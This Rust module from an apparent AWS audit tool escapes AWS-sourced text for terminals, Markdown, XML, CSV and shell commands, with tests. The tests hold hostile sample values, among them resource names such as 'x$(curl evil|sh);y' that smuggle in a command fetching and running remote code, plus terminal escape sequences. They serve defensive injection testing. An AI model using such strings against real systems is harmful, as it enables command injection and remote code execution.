//! Text from AWS (and from rule and waiver files) made inert for each
//! format it lands in: one place, so every format gets the same care.
//! HTML is escaped by minijinja's autoescape and, for SVG, [`xml_escape`].

/// Unicode characters that reorder how text is shown (Trojan Source).
pub fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
}

/// Characters that show nothing, or break a line, without being control
/// characters: zero-width spaces and joiners, the word joiner and
/// invisible operators, the byte order mark, the soft hyphen, and the line
/// and paragraph separators. A path starting with one looks like another.
pub fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}' | '\u{200B}'..='\u{200D}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}'
    )
}

/// Text safe to print: control characters (C0 but newline, DEL, C1,
/// including ESC and CSI) and bidi controls become `?`.
pub fn terminal_text(text: &str) -> String {
    text.chars()
        .map(|c| {
            if (c.is_control() && c != '\n') || is_bidi_control(c) {
                '?'
            } else {
                c
            }
        })
        .collect()
}

/// One field of a line printed to a terminal (a name, a reason): as
/// [`terminal_text`], and line breaks (U+2028 and U+2029 too) become `?`,
/// so a value can never start a line of its own (a forged "audit
/// fingerprint" line).
pub fn terminal_field(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_control() || is_bidi_control(c) || c == '\u{2028}' || c == '\u{2029}' {
                '?'
            } else {
                c
            }
        })
        .collect()
}

/// One line to print, ending in a newline: every value in it as
/// [`terminal_field`], so it stays one line.
pub fn terminal_line(text: &str) -> String {
    let mut line = terminal_field(text.strip_suffix('\n').unwrap_or(text));
    line.push('\n');
    line
}

/// JSON text safe to print: the C1 controls and bidi controls serde_json
/// leaves as they are (it escapes only C0) become `\uXXXX` escapes, which
/// any JSON reader turns back into the same string.
pub fn json_for_terminal(json: &str) -> String {
    let mut out = String::with_capacity(json.len());
    for c in json.chars() {
        if (c.is_control() && c != '\n') || is_bidi_control(c) || c == '\u{2028}' || c == '\u{2029}'
        {
            out.push_str(&format!("\\u{:04x}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    out
}

/// Text as inert Markdown, for a table cell or a list item: every ASCII
/// punctuation mark is backslash-escaped (so no heading, emphasis, link,
/// image, code span, table cell break or autolink can start), `<`, `>` and
/// `&` become entities (no raw HTML), control characters are dropped and
/// line breaks become spaces.
/// `text` cut to at most `max_bytes` bytes on a character boundary, with
/// a note of how much was cut when it was.
pub fn clip_bytes(text: &str, max_bytes: usize) -> String {
    if text.len() <= max_bytes {
        return text.to_string();
    }
    let mut end = max_bytes;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    format!(
        "{}… ({} more bytes)",
        text.get(..end).unwrap_or_default(),
        text.len() - end
    )
}

pub fn md(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\n' | '\r' | '\t' => out.push(' '),
            c if c.is_control() || is_bidi_control(c) => {}
            c if c.is_ascii_punctuation() => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

/// Escapes text for XML, SVG and HTML attributes and content, dropping
/// characters XML 1.0 forbids.
pub fn xml_escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            '\t' | '\n' | '\r' => out.push(c),
            c if (c as u32) < 0x20 || c == '\u{FFFE}' || c == '\u{FFFF}' => {}
            c => out.push(c),
        }
    }
    out
}

/// Prefixes a cell that a spreadsheet would run as a formula (`=`, `+`, `-`,
/// `@`, tab, carriage return) with an apostrophe, the OWASP-recommended fix.
pub fn neutralise_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// `value` as one inert POSIX shell word: as it is when it holds only the
/// characters of AWS ids and names (`ami-0a1b`, `/golden/al2023`),
/// single-quoted otherwise (an Auto Scaling group may be named
/// `x$(id);curl evil|sh`). Every format that fills a remediation command
/// quotes through here.
pub fn shell_word(value: &str) -> std::borrow::Cow<'_, str> {
    let plain = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.:/@=+,%".contains(c));
    if plain {
        std::borrow::Cow::Borrowed(value)
    } else {
        std::borrow::Cow::Owned(format!("'{}'", value.replace('\'', "'\\''")))
    }
}

/// The placeholders a remediation command may hold.
pub const COMMAND_PLACEHOLDERS: [&str; 3] = ["{account_id}", "{region}", "{resource_id}"];

/// The first placeholder of `command` that stands inside quotes, where the
/// quoted word it becomes would close them and run (`'..."{resource_id}"...'`
/// with `x'$(id)'`): each must stand outside quotes, joined to quoted text
/// around it if need be (`'...value":"'{resource_id}'"...'`).
pub fn placeholder_in_quotes(command: &str) -> Option<&'static str> {
    #[derive(PartialEq)]
    enum Quote {
        None,
        Single,
        Double,
    }
    let mut quote = Quote::None;
    let mut escaped = false;
    for (i, c) in command.char_indices() {
        if quote != Quote::None
            && let Some(p) = COMMAND_PLACEHOLDERS
                .iter()
                .find(|p| command.get(i..).is_some_and(|rest| rest.starts_with(**p)))
        {
            return Some(p);
        }
        if escaped {
            escaped = false;
            continue;
        }
        quote = match (&quote, c) {
            (Quote::None, '\\') | (Quote::Double, '\\') => {
                escaped = true;
                continue;
            }
            (Quote::None, '\'') => Quote::Single,
            (Quote::None, '"') => Quote::Double,
            (Quote::Single, '\'') | (Quote::Double, '"') => Quote::None,
            _ => continue,
        };
    }
    None
}

/// A remediation command with a finding's identifiers filled in, each as
/// one shell word ([`shell_word`]).
pub fn fill_command(command: &str, account_id: &str, region: &str, resource_id: &str) -> String {
    command
        .replace("{account_id}", &shell_word(account_id))
        .replace("{region}", &shell_word(region))
        .replace("{resource_id}", &shell_word(resource_id))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_text_strips_escape_sequences_and_bidi_controls() {
        assert_eq!(terminal_text("a\u{1b}]0;pwned\u{7}b"), "a?]0;pwned?b");
        assert_eq!(terminal_text("\u{1b}[2Jred\u{9b}"), "?[2Jred?");
        assert_eq!(terminal_text("\u{202e}exe.txt"), "?exe.txt");
        assert_eq!(terminal_text("line\nnext"), "line\nnext");
    }

    #[test]
    fn markdown_cannot_start_markup() {
        assert_eq!(md("# H"), "\\# H");
        assert_eq!(md("a | b"), "a \\| b");
        assert_eq!(md("![x](y)"), "\\!\\[x\\]\\(y\\)");
        assert_eq!(md("<img src=x>"), "&lt;img src\\=x&gt;");
        assert_eq!(md("`c`\nnext"), "\\`c\\` next");
        assert_eq!(md("\u{1b}[31m"), "\\[31m");
        assert_eq!(md("ami-0a1"), "ami\\-0a1");
    }

    #[test]
    fn xml_and_csv() {
        assert_eq!(
            xml_escape("<a b=\"c\">&'\u{1}"),
            "&lt;a b=&quot;c&quot;&gt;&amp;&apos;"
        );
        assert_eq!(neutralise_cell("=1+1"), "'=1+1");
        assert_eq!(neutralise_cell("-2"), "'-2");
        assert_eq!(neutralise_cell("ami-1"), "ami-1");
    }

    #[test]
    fn ids_stay_as_they_are_and_anything_else_is_one_inert_word() {
        assert_eq!(shell_word("ami-0a1b2c3d"), "ami-0a1b2c3d");
        assert_eq!(shell_word("/golden/al2023/latest"), "/golden/al2023/latest");
        assert_eq!(shell_word("x; curl evil|sh"), "'x; curl evil|sh'");
        assert_eq!(shell_word("$(id)`id`"), "'$(id)`id`'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word(""), "''");
    }

    #[test]
    fn placeholders_inside_quotes_are_found() {
        assert_eq!(placeholder_in_quotes("aws x --id {resource_id}"), None);
        assert_eq!(
            placeholder_in_quotes(r#"aws x --f '{"v":"{resource_id}"}'"#),
            Some("{resource_id}")
        );
        assert_eq!(
            placeholder_in_quotes(r#"aws x --r "{region}""#),
            Some("{region}")
        );
        assert_eq!(
            placeholder_in_quotes(r#"aws x --f '{"v":"'{resource_id}'"}' --r {region}"#),
            None
        );
        assert_eq!(placeholder_in_quotes(r#"aws x \' {account_id}"#), None);
        // Joined to quoted text, a hostile id stays one inert word.
        let filled = fill_command(r#"echo '{"v":"'{resource_id}'"}'"#, "", "", "ami-0$(id)'x");
        assert_eq!(filled, r#"echo '{"v":"''ami-0$(id)'\''x''"}'"#);
    }

    #[test]
    fn every_identifier_of_a_command_is_one_word() {
        assert_eq!(
            fill_command(
                "aws autoscaling start-instance-refresh --region {region} --auto-scaling-group-name {resource_id}",
                "111111111111",
                "eu-west-1",
                "x$(curl evil|sh);y"
            ),
            "aws autoscaling start-instance-refresh --region eu-west-1 --auto-scaling-group-name 'x$(curl evil|sh);y'"
        );
    }

    #[test]
    fn clip_cuts_on_a_character_boundary() {
        assert_eq!(clip_bytes("short", 10), "short");
        assert_eq!(clip_bytes("ééé", 3), "é… (4 more bytes)");
    }
}
